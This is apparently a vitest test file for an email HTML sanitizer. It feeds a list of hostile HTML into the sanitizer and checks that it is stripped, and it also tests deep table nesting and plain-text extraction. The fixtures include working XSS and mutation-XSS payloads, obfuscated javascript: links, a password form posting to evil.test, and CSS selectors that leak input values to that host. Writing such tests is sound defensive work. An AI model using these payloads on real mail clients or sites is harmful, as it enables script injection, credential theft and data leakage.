import { expect, test } from 'vitest';
import { sanitizeMail, textOfHtml } from './mail-html.ts';

const HOSTILE = [
  '<script>x()</script>',
  '<img src=x onerror=x()>',
  '<svg><script>x()</script></svg>',
  '<svg onload=x()>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=x()>">',
  '<form action="https://evil.test"><input name=password><button>Go</button></form>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>input[value^=a]{background:url(https://evil.test/a)}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.test)">over</div>',
  '<div style="color:red;background-image:url(//evil.test)">x</div>',
  '<div style="color:expression(x())">x</div>',
  '<a href="javascript:x()">a</a><a href="JaVa&#10;script:x()">b</a><a href="data:text/html,x">c</a><a href="//evil.test">d</a>',
  '<iframe src="https://evil.test"></iframe><object data="https://evil.test"></object><embed src="https://evil.test">',
  '<table background="https://evil.test"><td background="https://evil.test">x',
  '<img srcset="https://evil.test 1x"><picture><source srcset="https://evil.test">',
  '<video src="https://evil.test" poster="https://evil.test"></video>',
  '<template><img src=x onerror=x()></template>',
  '<xmp><img src=x onerror=x()></xmp><plaintext>',
  '<p id="x" class="inbox" name="y">x</p>',
];

test.each(HOSTILE)('C4 nothing of it runs, loads, asks for anything or leaves its place: %s', async (html) => {
  const clean = await sanitizeMail(`<p>Hello</p>${html}`);
  expect(clean).toContain('Hello');
  expect(clean).not.toMatch(
    /<(script|img|svg|math|form|input|button|base|meta|link|style|iframe|object|embed|video|template|source)\b|\son\w+=|url\(|position|expression|javascript:|data:|evil\.test|\s(id|class|name|src|srcset|background)=/i,
  );
});

test('words, tables and colours stay as they were', async () => {
  const html =
    '<table width="100%"><tbody><tr><td bgcolor="#eee" style="padding:4px 8px;color:#333333">Tea &amp; <b>cup</b></td></tr></tbody></table><a href="https://a.example/?x=1&amp;y=2">a</a>';
  expect(await sanitizeMail(html)).toBe(
    html
      .replace('padding:4px 8px;color:#333333', 'padding:4px 8px;color:#333333')
      .replace('y=2"', 'y=2" target="_blank" rel="noreferrer noopener nofollow"'),
  );
});

test('C4 ten thousand tables in each other end', async () => {
  const html = `${'<table><tr><td>'.repeat(10_000)}deep`;
  const clean = await sanitizeMail(html);
  expect(clean.match(/<table/g)?.length ?? 0).toBeLessThanOrEqual(60);
  expect(await textOfHtml(html)).toBeTypeOf('string');
});

test('its words are read as plain text, and what it quotes as quoted', async () => {
  const html =
    '<head><title>x</title></head><div>Hello&nbsp;Ada,</div><div><br></div><div>it is &lt;here&gt;.</div><blockquote><div>When?</div><blockquote>Where?</blockquote></blockquote>';
  expect(await textOfHtml(html)).toMatch(/^Hello Ada,\n+it is <here>\.\n+> When\?\n[> \n]*> > Where\?[> \n]*$/);
});
